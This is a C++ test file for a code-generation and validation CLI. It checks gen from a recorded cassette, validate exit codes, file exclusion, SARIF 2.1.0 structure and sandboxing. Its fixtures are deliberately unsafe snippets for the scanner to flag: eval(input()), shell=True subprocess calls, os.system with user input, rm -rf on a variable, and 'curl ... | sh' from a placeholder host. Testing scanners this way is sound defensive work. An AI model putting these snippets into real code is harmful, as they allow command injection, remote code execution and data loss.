// The offline manifest end to end through the real binary: gen from the demo cassette (with a
// repair), validate with every output format, and SARIF 2.1.0's required structure.
#include "cli_assertions.hpp"
#include "cli_test_paths.hpp"
#include "evo_runner.hpp"
#include "scratch_dir.hpp"

#include <boost/json.hpp>
#include <catch2/catch.hpp>

#include <set>

namespace {

namespace json = boost::json;
using evo::test::json_object;
using evo::test::run_evo;

const std::string offline_manifest = EVO_OFFLINE_MANIFEST;

// The properties SARIF 2.1.0 requires (sarif-schema-2.1.0: sarifLog, run, tool,
// toolComponent, result, message, location, physicalLocation, artifactLocation, region), the
// enumerations it fixes, and the consistency of ruleIndex with tool.driver.rules.
void require_valid_sarif(const json::object& log) {
    REQUIRE(log.at("version").as_string() == "2.1.0");
    const auto& runs = log.at("runs").as_array();
    REQUIRE(runs.size() == 1);
    const auto& run = runs[0].as_object();
    const auto& driver = run.at("tool").at("driver").as_object();
    REQUIRE(!driver.at("name").as_string().empty());
    const auto& rules = driver.at("rules").as_array();
    std::set<std::string> rule_ids;
    for (const auto& rule : rules) rule_ids.insert(std::string(rule.at("id").as_string()));
    CHECK(rule_ids.size() == rules.size()); // ids are unique
    for (const auto& r : run.at("results").as_array()) {
        const auto& result = r.as_object();
        const std::string rule_id(result.at("ruleId").as_string());
        auto index = result.at("ruleIndex").to_number<std::size_t>();
        REQUIRE(index < rules.size());
        CHECK(rules[index].at("id").as_string() == rule_id);
        const std::string level(result.at("level").as_string());
        CHECK((level == "error" || level == "warning" || level == "note" || level == "none"));
        CHECK(!result.at("message").at("text").as_string().empty());
        for (const auto& location : result.at("locations").as_array()) {
            const auto& physical = location.at("physicalLocation").as_object();
            CHECK(!physical.at("artifactLocation").at("uri").as_string().empty());
            if (const auto* region = physical.if_contains("region")) {
                CHECK(region->at("startLine").to_number<int64_t>() >= 1);
                if (const auto* column = region->as_object().if_contains("startColumn"))
                    CHECK(column->to_number<int64_t>() >= 1);
            }
        }
    }
}

} // namespace

TEST_CASE("gen on the offline manifest prints validated code and exits 0", "[cli][gen]") {
    auto r = run_evo({"-m", offline_manifest, "gen", "a Python function that parses RFC 3339 dates"});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    CHECK(r.out.find("def parse_rfc3339(") != std::string::npos);
    CHECK(r.out.find("```") == std::string::npos); // the code, not the model's markdown
}

TEST_CASE("gen repairs code that fails a layer, and --json tells the whole story", "[cli][gen]") {
    auto r = run_evo({"-m", offline_manifest, "gen", "--json",
                      "a Python calculator that evaluates an expression typed by the user"});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    auto result = json_object(r.out);
    CHECK(result.at("outcome").as_string() == "passed");
    const auto& attempts = result.at("attempts").as_array();
    REQUIRE(attempts.size() == 2);
    CHECK(attempts[0].at("findings").to_number<int>() == 1);
    CHECK(std::string(result.at("code").as_string()).find("return eval(") == std::string::npos);
}

TEST_CASE("gen for a request the cassette lacks is a provider error (exit 3)", "[cli][gen]") {
    auto r = run_evo({"-m", offline_manifest, "gen", "something nobody recorded"});
    CHECK(r.exit_code == 3);
    CHECK(r.err.find("not in cassette") != std::string::npos);
    CHECK(r.out.empty());
}

TEST_CASE("the cache key knows the versions of the tools the validators run", "[cli][gen][cache]") {
    auto r = run_evo({"-vv", "-m", offline_manifest, "gen", "a Python function that parses RFC 3339 dates"});
    INFO(r.err);
    CHECK(r.exit_code == 0);
    auto part = [&](const std::string& id) {
        auto at = r.err.find("cache key part of [plugins." + id + "]: ");
        REQUIRE(at != std::string::npos);
        return r.err.substr(at, r.err.find('\n', at) - at);
    };
    CHECK(part("python-syntax").find(R"("identity":"Python 3.)") != std::string::npos);
    CHECK(part("shell-syntax").find(R"("identity":"GNU bash, version )") != std::string::npos);
    CHECK(part("shell-security").find(R"("identity":"shellcheck version: )") != std::string::npos);
    // The cassette by its content, never by where this checkout keeps it.
    CHECK(part("replay").find(R"("cassette":"sha256:)") != std::string::npos);
}

TEST_CASE("validate finds problems in files and directories and exits 1", "[cli][validate]") {
    evo::test::scratch_dir dir;
    dir.write("src/ok.py", "def add(a, b):\n    return a + b\n");
    dir.write("src/run.py", "import subprocess as sp\n\ndef run(cmd):\n    sp.call(cmd, shell=True)\n");
    dir.write("src/broken.py", "def f(:\n    pass\n");
    dir.write("src/deploy.sh", "#!/bin/sh\nrm -rf \"$TARGET\"/\n");
    dir.write("src/skip/me.py", "eval(input())\n");
    dir.write("src/.git/hook.py", "eval(input())\n");
    dir.write("src/notes.txt", "eval(input())\n");

    auto r = run_evo({"-m", offline_manifest, "validate", "--format", "json", "--exclude", "skip",
                      (dir.path() / "src").string()});
    INFO(r.err);
    CHECK(r.exit_code == 1);
    auto result = json_object(r.out);
    std::set<std::string> rules;
    for (const auto& f : result.at("findings").as_array()) {
        rules.insert(std::string(f.at("rule_id").as_string()));
        CHECK(std::string(f.at("file").as_string()).find("skip") == std::string::npos);
        CHECK(std::string(f.at("file").as_string()).find(".git") == std::string::npos);
    }
    CHECK(rules.count("PY-SUBPROCESS-SHELL") == 1);
    CHECK(rules.count("PY-SYNTAX") == 1);
    CHECK(rules.count("SH-RM-VAR") == 1);
    CHECK(result.at("summary").at("files").to_number<int>() == 4);
    CHECK(result.at("summary").at("skipped").to_number<int>() == 1);
}

TEST_CASE("validate --fail-on high ignores medium findings", "[cli][validate]") {
    evo::test::scratch_dir dir;
    auto file = dir.write("m.py", "import pickle\n\ndef load(b):\n    return pickle.loads(b)\n");
    CHECK(run_evo({"-m", offline_manifest, "validate", file.string()}).exit_code == 1);
    CHECK(run_evo({"-m", offline_manifest, "validate", "--fail-on", "high", file.string()}).exit_code == 0);
}

TEST_CASE("validate of a path that does not exist is a usage error", "[cli][validate]") {
    auto r = run_evo({"-m", offline_manifest, "validate", "/nonexistent/evo-test"});
    CHECK(r.exit_code == 2);
    CHECK(r.err.find("/nonexistent/evo-test: no such file or directory") != std::string::npos);
}

TEST_CASE("validate --format sarif writes a valid SARIF 2.1.0 log", "[cli][validate][sarif]") {
    evo::test::scratch_dir dir;
    dir.write("a.py", "import os\nos.system('ls ' + input())\nx = eval('1')\n");
    dir.write("b.sh", "curl -s https://example.invalid/x.sh | sh\n");
    dir.write("c.py", "print('clean')\n");
    auto r = run_evo({"-m", offline_manifest, "validate", "--format", "sarif", dir.path().string()});
    INFO(r.err);
    CHECK(r.exit_code == 1);
    auto log = json_object(r.out);
    require_valid_sarif(log);
    CHECK(log.at("runs").as_array()[0].at("results").as_array().size() >= 3);
}

// python-syntax's workers run in the host's sandbox: without bubblewrap the file is errored
// (exit 3) with the reason and the way out, never judged by an unsandboxed worker.
TEST_CASE("validate judges Python in sandboxed workers, and errs without bubblewrap", "[cli][validate][sandbox]") {
    evo::test::scratch_dir dir;
    const auto ok = dir.write("ok.py", "def add(a, b):\n    return a + b\n").string();
    const auto broken = dir.write("broken.py", "def f(:\n    pass\n").string();
    CHECK(run_evo({"-m", offline_manifest, "validate", ok}).exit_code == 0);
    auto judged = run_evo({"-m", offline_manifest, "validate", broken});
    CHECK(judged.exit_code == 1);
    CHECK(judged.out.find("PY-SYNTAX") != std::string::npos);

    evo::test::run_options no_bwrap;
    no_bwrap.env["PATH"] = "/nonexistent";
    auto refused = run_evo({"-m", offline_manifest, "validate", ok}, no_bwrap);
    CHECK(refused.exit_code == 3);
    CHECK(refused.err.find("no bwrap is in PATH") != std::string::npos);
    CHECK(refused.err.find("`sandbox = false` under [plugins.python-syntax]") != std::string::npos);
}
